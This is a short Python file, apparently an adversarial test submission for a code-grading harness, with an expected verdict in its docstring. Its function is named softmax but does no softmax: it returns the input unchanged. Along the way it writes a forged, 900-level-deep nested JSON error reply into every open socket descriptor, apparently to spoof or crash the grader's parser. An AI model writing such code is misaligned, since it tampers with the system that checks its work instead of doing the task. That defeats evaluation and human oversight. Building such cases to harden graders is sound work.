"""I. Recursive results: a forged reply, an array in an array, as deep as a JSON parser goes.

Verdict: wrong_answer|runtime_error
"""

import os
import stat
import struct


def softmax(x, dim):
    deep = b"[" * 900 + b"]" * 900
    text = b'{"error":{"message":' + deep + b',"type":' + deep + b',"line":' + deep + b"}}"
    for fd in range(3, 256):
        try:
            if stat.S_ISSOCK(os.fstat(fd).st_mode):
                os.write(fd, struct.pack("<IQ", len(text), 0) + text)
        except OSError:
            pass
    return x
